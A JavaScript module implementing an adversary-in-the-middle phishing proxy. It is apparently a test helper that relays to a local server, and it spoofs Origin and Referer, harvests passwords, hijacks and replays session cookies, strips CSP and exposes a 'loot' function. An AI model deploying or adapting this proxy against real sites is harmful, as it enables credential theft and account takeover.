// proxy.mjs - an adversary in the middle: a site of another host name that relays everything to the real one, both ways, and keeps what passes.
//
// It is as good as such proxies are: Host, Origin and Referer are made the real ones, cookies become its own, addresses in answers are rewritten,
// policies taken off. `rewrite` changes the questions to WebAuthn as well.
import http from 'node:http'

export function startProxy(base, rewrite = (path, text) => text) {
    const real = new URL(base), seen = { passwords: [], cookies: new Map(), answers: [] }
    const server = http.createServer((request, response) => {
        const pieces = []
        request.on('data', (p) => pieces.push(p))
        request.on('end', () => {
            const sent = Buffer.concat(pieces), here = `http://${request.headers.host}`
            const headers = { ...request.headers, host: real.host, 'accept-encoding': 'identity', 'sec-fetch-site': 'same-origin' }
            for (const name of ['origin', 'referer']) if (headers[name]) headers[name] = headers[name].replace(here, real.origin)
            if (seen.cookies.size) headers.cookie = [...seen.cookies].map(([k, v]) => `${k}=${v}`).join('; ')
            if (/"password"/.test(sent)) seen.passwords.push(JSON.parse(sent).password)
            const up = http.request({ host: '127.0.0.1', port: real.port, path: request.url, method: request.method, headers }, (answer) => {
                const got = []
                answer.on('data', (p) => got.push(p))
                answer.on('end', () => {
                    for (const cookie of answer.headers['set-cookie'] ?? []) { // the victim's cookies: his own from here on
                        const [, name, value] = /^([^=]+)=([^;]*)/.exec(cookie)
                        if (/Max-Age=0/.test(cookie)) seen.cookies.delete(name)
                        else seen.cookies.set(name, value)
                    }
                    let text = Buffer.concat(got).toString()
                    if (/json|html|javascript/.test(answer.headers['content-type'])) text = rewrite(request.url, text.replaceAll(real.origin, here))
                    if (/^\/v1/.test(request.url)) seen.answers.push({ path: request.url, status: answer.statusCode, text })
                    const { 'content-security-policy': policy, 'content-length': length, 'set-cookie': set, 'transfer-encoding': coding, ...rest } = answer.headers
                    response.writeHead(answer.statusCode, rest)
                    response.end(text)
                })
            })
            up.on('error', () => response.destroy())
            up.end(sent)
        })
    })
    return new Promise((resolve) => server.listen(0, '127.0.0.1', () => {
        const { port } = server.address()
        const cookie = () => [...seen.cookies].map(([k, v]) => `${k}=${v}`).join('; ')
        // What the adversary gets with the cookies that passed through his hands.
        const loot = async (path) => { const r = await fetch(base + path, { headers: { cookie: cookie() } }); return { status: r.status, ...await r.json() } }
        resolve({ port, seen, loot, stop: () => server.close() })
    }))
}
